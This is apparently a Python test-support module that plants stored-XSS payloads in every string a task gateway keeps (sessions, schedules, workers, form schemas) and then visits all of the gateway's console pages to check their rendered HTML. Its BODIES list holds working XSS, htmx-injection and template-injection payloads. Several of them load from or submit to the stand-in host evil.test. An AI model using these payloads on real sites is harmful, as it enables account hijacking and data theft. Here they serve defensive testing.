"""Payloads that would run in a careless page, a pool that stores them in every string, all pages.

Names of attributes are no such place: they have letters, digits and ``_.-`` alone. Rates that were
set are on no page.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator, Iterable, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import pytest

from redis_state import RedisStateStore
from redis_state.gateway import GatewayLimits
from redis_state.worker import Handler, Schedule, TaskContext
from redis_state.worker.observe.registry import WorkerIdentity, WorkerRecord
from redis_state.worker.observe.stats import WorkerStats
from tests.support.browser.console import Browser, Page, keys_for
from tests.support.http import gateway as support
from tests.support.http.gateway import Served, ends, gateway_of, links, paused, stranger

# How a payload leaves the place where it was put.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "</textarea></title></pre></svg>",
    "</script>",
    "-->",
    "]]>",
    "</select></option></label>",
    "a\r\n\r\nevent: end\r\ndata: ",
    '" ',
    "' ",
    "\u2028\x00</code></li>",
)
# What it does outside. XSS is the place where it was stored.
BODIES = (
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "{{ 7*7 }}{% raw %}XSS",
    "autofocus onfocus=alert('XSS') x=",
    "hx-on:load='alert(1)' x='XSS",
    "<div hx-get=//evil.test hx-trigger=load>XSS</div>",
    "<div hx-sse:connect=//evil.test>XSS</div>",
    "<div data-hx-get=//evil.test data-hx-trigger=load>XSS</div>",
    "<hx-partial hx-target=body>XSS</hx-partial>",
    "<!--XSS",
    "<base href=//evil.test>XSS",
    "<meta http-equiv=refresh content='0;url=//evil.test'>XSS",
    "<link rel=stylesheet href=//evil.test>XSS",
    "<style>*{background:url(//evil.test)}</style>XSS",
    "<b style=background:url(//evil.test)>XSS</b>",
    "<iframe srcdoc='<script>alert(1)</script>'>XSS</iframe>",
    "<iframe src=javascript:alert('XSS')></iframe>",
    "<object data=//evil.test>XSS</object>",
    "<embed src=//evil.test>XSS",
    "<form action=//evil.test><button autofocus>XSS</button></form>",
    "<button formaction=//evil.test>XSS</button>",
    "<input type=hidden name=form_token value=XSS>",
    "<a href=javascript:alert('XSS')>XSS</a>",
    "<a href=//evil.test ping=//evil.test>XSS</a>",
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=alert('XSS')></video>",
    "<audio src=x onerror=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<math href=javascript:alert('XSS')>XSS</math>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<svg><use href=//evil.test#x></svg>XSS",
    "<svg><foreignObject><script>alert('XSS')</script></foreignObject></svg>",
    "<table background=//evil.test>XSS</table>",
    "<marquee onstart=alert('XSS')>",
    "<template shadowrootmode=open><script>alert('XSS')</script></template>",
    "<noscript><img src=x onerror=alert('XSS')></noscript>",
    "<plaintext>XSS",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<ScRiPt/x>alert('XSS')</ScRiPt >",
    "&lt;script&gt;alert('XSS')&lt;/script&gt;&#34;&quot;",
    "%3Cscript%3Ealert('XSS')%3C/script%3E\u202e",
)
# No common divisor: the first payloads have all of both, and no two are alike.
MOST = len(BREAKOUTS) * len(BODIES)
PLAIN = -1

_DAY = timedelta(days=1)


def evil(number: int, where: str) -> str:
    """Make a payload, with the place where it is stored; for `PLAIN`, harmless text."""
    if number == PLAIN:
        return f"plain {where}"
    breakout, body = BREAKOUTS[number % len(BREAKOUTS)], BODIES[number % len(BODIES)]
    return f"{breakout}{body.replace('XSS', where)} {number}"


@dataclass(frozen=True, slots=True)
class Planted:
    """Where the payload of a number is stored, and a person whose name it is."""

    number: int
    session: str
    task: str
    pause_id: str
    person: Browser
    worker: WorkerRecord = field(repr=False)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A gateway whose strings are all payloads, and those who see them."""

    served: Served
    keys: Mapping[str, str]
    paths: Sequence[str] = (
        *("", "/inbox", "/find", "/dead", "/sessions"),
        *("/workers", "/queues", "/schedules"),
    )

    async def plant(self, number: int) -> Planted:
        """Store a payload wherever a client, a handler, a worker or a person can."""
        client, session, task = self.served.client, evil(number, "session"), evil(number, "task")
        about = {"note": evil(number, "attribute")}
        handler, queue = evil(number, "handler"), evil(number, "queue")
        worker = WorkerRecord(
            self.served.store,
            WorkerIdentity(evil(number, "worker"), [queue], [handler], 1, "loop"),
            WorkerStats(),
        )
        await worker.say()
        await client.queues.limit_key(queue, evil(number, "limit key"), running=5)
        await client.submit(
            handler,
            number,
            session_id=session,
            task_id=task,
            description=evil(number, "description"),
            attributes=about,
            trace_id=evil(number, "trace"),
            limit_key=evil(number, "limit key"),
        )
        await client.submit("fails", number, session_id=session, task_id="f", attributes=about)
        await client.submit("fails", number, session_id=session, task_id="q", queue=queue)
        await client.schedules.save(
            Schedule(
                schedule_id=evil(number, "schedule"),
                handler="fails",
                session_id=session.replace("{", "{{").replace("}", "}}"),
                every=_DAY,
                description=evil(number, "of a schedule"),
                attributes=about,
                limit_key=evil(number, "limit key"),
            )
        )
        pause_id, _ = await asyncio.gather(
            paused(self.served, session, task), ends(self.served, session, "f")
        )
        # One of the deciders is no person of this test, and has handed the vote on.
        await client.delegate(pause_id, evil(number, "delegate"), actor=evil(number, "decider"))
        person = Browser(self.served.app)
        await person.log_in(self.keys[evil(number, "subject")])
        return Planted(number, session, task, pause_id, person, worker)

    async def lists(self, browser: Browser) -> list[Page]:
        """Open the pages that list what is stored."""
        return [await browser.get(each) for each in self.paths]

    async def visit(self, planted: Planted) -> list[Page]:
        """Open all pages of a payload, and send their forms with it."""
        number, session, task = planted.number, planted.session, planted.task
        person = planted.person
        pages = [
            await person.get("/task", session=session, task="f"),
            await person.get("/session", session=session),
            await person.get("/pause", pause=planted.pause_id),
            await person.get("/find", handler=evil(number, "filter"), session_id=session),
            await person.get("/find", attribute=evil(number, "filter")),
            await person.get("/find", after=evil(number, "cursor")),
            await person.get("/inbox", tag=evil(number, "filter")),
            await person.get("/login", back=evil(number, "page")),
            await person.get("/task", session=session, task=task),
            *await self._links(planted),
        ]
        decide, change = pages[2].form("/decide"), pages[3].form("/find/change")
        text = evil(number, "steering")
        pages.append(await person.send(pages[8].form("/steer"), type="USER_MESSAGE", text=text))
        pages.append(await person.send(decide, decision="approve", f0="x", f1="9"))
        if number % 2:
            reason = evil(number, "rejection")
            pages.append(await person.send(decide, decision="reject", reason=reason))
        else:
            pages.append(await person.send(decide, decision="approve", f1="0", f2="", f3=text))
        await ends(self.served, session, task)
        pages.append(await person.send(decide, decision="approve", f1="0", f2="", f3=""))
        pages.append(await person.get("/pause", pause=planted.pause_id))
        pages.append(await person.get("/task", session=session, task=task))
        pages.append(await person.send(change, action=evil(number, "action")))
        pages.append(await person.send(change, action="cancel", reason=evil(number, "r"), all="1"))
        waits = (await person.get("/task", session=session, task="q")).form("/cancel")
        pages.append(await person.send(waits, reason=evil(number, "reason")))
        return pages

    async def remove(self, planted: Planted) -> None:
        """Remove what would be on the lists of others for ever."""
        await self.served.client.schedules.delete(evil(planted.number, "schedule"))
        await self.served.client.forget(planted.session)
        await planted.worker.withdraw()
        await planted.person.http.aclose()

    async def _links(self, planted: Planted) -> list[Page]:
        """Open the page of a link, and send its form with a value that does not fit."""
        number = planted.number
        link = f"/v1/hooks/{links.mint(planted.pause_id, actor=evil(number, 'actor'))}"
        value = f"{{{json.dumps(evil(number, 'property'))}: 5}}"
        async with stranger(self.served.app) as http:
            sent = await http.post(link, data={"decision": "approve", "value": value})
            return [Page(await http.get(link)), Page(sent)]


@asynccontextmanager
async def hostile_gateway(
    store: RedisStateStore, numbers: Sequence[int], monkeypatch: pytest.MonkeyPatch
) -> AsyncGenerator[Hostile]:
    """Serve a pool, a gateway and its console for the payloads of these numbers."""
    handlers = hostile_handlers(numbers)
    for name, each in handlers.items():
        monkeypatch.setitem(support.HANDLERS, name, each)
    auth, keys = keys_for(**{evil(number, "subject"): "admin:*" for number in numbers})
    limits = GatewayLimits(requests_per_s=None)
    async with gateway_of(
        store, handlers=[*handlers], auth=auth, console=True, limits=limits
    ) as served:
        yield Hostile(served, keys)


def hostile_handlers(numbers: Iterable[int]) -> Mapping[str, Handler]:
    """Return handlers that store the payload of their input's number wherever they can.

    The first one has each payload as a name.
    """

    async def asks(ctx: TaskContext) -> Any:
        number: int = ctx.input
        await ctx.step(evil(number, "step"), _value, evil(number, "value of a step"))
        await ctx.progress(evil(number, "message"), **{evil(number, "detail"): number})
        await ctx.thinking(evil(number, "thought"))
        await ctx.tool_call(evil(number, "tool"), {evil(number, "argument"): 1})
        await ctx.publish_value(evil(number, "key"), evil(number, "published"))
        name, about = evil(number, "child"), evil(number, "of a child")
        await ctx.join(await ctx.spawn("says", number, name=name, description=about))
        pause = await ctx.open_pause(
            evil(number, "reason"),
            {evil(number, "name"): evil(number, "payload")},
            name=evil(number, "pause"),
            tags=[evil(number, "tag")],
            schema=_form(number),
            of=[evil(number, "subject"), evil(number, "decider")],
            approvals=1,
            rejections=1,
        )
        decision = await ctx.wait_for(pause)
        return {evil(number, "result"): decision.value}

    async def says(ctx: TaskContext) -> Any:
        return evil(ctx.input, "said")

    async def fails(ctx: TaskContext) -> Any:
        ctx.on_failure(_value, None, name=evil(ctx.input, "undo"))
        raise RuntimeError(evil(ctx.input, "error"))

    named = {evil(number, "handler"): asks for number in numbers}
    return {**named, "says": says, "fails": fails}


class Shape(HTMLParser):
    """The elements of a page and their attributes, without any value but those that lead away."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, str]] = set()
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Collect an element."""
        self.found.add((tag, ""))
        for name, value in attrs:
            self.found.add((tag, name))
            where = (value or "").strip().lower()
            if name in _LEADS and where and not where.startswith(("/console", "#")):
                self.found.add((tag, f"{name}={value}"))

    def handle_comment(self, data: str) -> None:
        """Collect a comment: pages have none."""
        self.found.add(("<!--", data))


def shape_of(sources: Iterable[str]) -> set[tuple[str, str]]:
    """Return what pages are made of, all together."""
    return set[tuple[str, str]]().union(*(Shape(each).found for each in sources))


# Attributes whose value a browser may follow.
_LEADS = {"href", "src", "action", "xlink:href", "hx-get", "hx-sse:connect"}


def _form(number: int) -> dict[str, Any]:
    return {
        "type": "object",
        "title": evil(number, "form"),
        "properties": {
            evil(number, "property"): {"title": evil(number, "title"), "type": "string"},
            "x": {"description": evil(number, "help"), "enum": [evil(number, "choice")]},
            "y": {"type": "string", "default": evil(number, "default")},
            "z": {"type": "string", "maxLength": 900, "default": evil(number, "long")},
        },
    }


async def _value(value: Any) -> Any:
    return value
